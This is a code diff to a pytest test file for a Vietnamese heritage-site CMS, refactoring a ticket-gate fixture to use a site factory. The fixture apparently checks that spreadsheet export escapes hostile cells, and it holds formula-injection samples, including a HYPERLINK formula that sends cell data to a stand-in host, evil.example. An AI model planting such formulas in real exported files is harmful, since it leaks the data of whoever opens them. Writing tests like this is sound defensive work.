@@ -11,6 +11,7 @@ from wagtail.snippets.models import get_snippet_models
 from heritage_cms.cards.models import Gate, Tap
 from heritage_cms.core.money import VND
 from heritage_cms.core.spreadsheet import SafeExportIndexView, safe_cell
+from heritage_cms.sites.factories import SiteFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -19,7 +20,9 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Chi tiết")'
 
 @pytest.fixture
 def hostile_taps(card):
-    gate = Gate.objects.create(name="Ngọ Môn", site_code="dai-noi", fare=VND(0), token_hash="g")
+    gate = Gate.objects.create(
+        name="Ngọ Môn", site=SiteFactory(code="dai-noi"), fare=VND(0), token_hash="g"
+    )
     now = timezone.now()
     for sequence, (number, reason) in enumerate(
         [("=1+1", HYPERLINK), ("@SUM(1)", "bị chặn\x07\x1b"), ("+84", "-2+3"), ("\t=1", "ok")],
